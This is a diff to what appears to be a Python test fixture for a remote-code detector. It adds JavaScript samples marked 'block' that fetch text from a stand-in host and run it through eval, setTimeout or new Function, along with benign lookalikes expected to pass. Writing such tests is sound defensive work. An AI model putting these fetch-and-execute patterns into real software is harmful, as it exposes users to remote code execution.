@@ -269,6 +269,32 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("search.spec.js", 2),
         ),
+        "by way of the global object that Function gives": Sample(
+            {
+                "app.js": "const all = Function('return this')();\n"
+                "fetch('https://a.invalid').then(r => r.text()).then(t => all.eval(t));\n"
+            },
+            "block",
+            ("app.js", 2),
+        ),
+        "a timer that takes text": Sample(
+            {"app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => setTimeout(d.later));\n"},
+            "block",
+            ("app.js", 1),
+        ),
+        "a function that Function makes to run what it is given": Sample(
+            {
+                "app.js": "const make = new Function('x', 'return eval(x)');\n"
+                "fetch('https://a.invalid').then(r => r.text()).then(t => make(t));\n"
+            },
+            "block",
+            ("app.js", 2),
+        ),
+        "a function that Function makes": Sample(
+            {"app.js": "fetch('https://a.invalid').then(r => r.text()).then(t => new Function('x', t)(1));\n"},
+            "block",
+            ("app.js", 1),
+        ),
         "what a property gives": Sample(
             {
                 "app.py": "import requests\nclass Level:\n    @property\n    def text(self):\n"
@@ -355,6 +381,13 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
     },
     "remote_code": {
+        "a timer that takes no text": {
+            "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => setImmediate(d.later));\n"
+        },
+        "a function that Function makes of a known text": {
+            "app.js": "const make = new Function('x', 'return { name: x }');\n"
+            "fetch('https://a.invalid').then(r => r.json()).then(d => make(d));\n"
+        },
         "an iterator of the language's own": {
             "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => {\n"
             "  const it = globalThis[Symbol.iterator](d);\n  console['log'](it, d);\n"
